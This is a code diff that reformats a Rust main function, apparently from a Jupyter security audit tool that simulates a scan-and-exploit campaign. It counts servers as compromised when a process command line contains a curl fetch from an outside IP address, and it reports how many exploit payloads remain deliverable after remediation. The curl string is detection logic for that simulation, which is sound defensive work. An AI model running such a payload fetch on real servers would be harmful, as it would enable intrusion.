@@ -52,7 +52,12 @@ fn main() {
     let compromised: usize = d
         .servers
         .iter()
-        .filter(|s| s.procs.all().iter().any(|p| p.cmdline.contains("curl http://203.0.0.99/p")))
+        .filter(|s| {
+            s.procs
+                .all()
+                .iter()
+                .any(|p| p.cmdline.contains("curl http://203.0.0.99/p"))
+        })
         .count();
     println!(
         "scan-and-exploit campaign: {} probe flows, {} servers compromised",
@@ -73,7 +78,14 @@ fn main() {
     let cells = c2
         .steps
         .iter()
-        .filter(|s| matches!(s, jupyter_audit::attackgen::campaign::CampaignStep::Cell { .. }))
+        .filter(|s| {
+            matches!(
+                s,
+                jupyter_audit::attackgen::campaign::CampaignStep::Cell { .. }
+            )
+        })
         .count();
-    println!("after remediation: trivially exploitable = 0, exploit payloads deliverable = {cells}");
+    println!(
+        "after remediation: trivially exploitable = 0, exploit payloads deliverable = {cells}"
+    );
 }
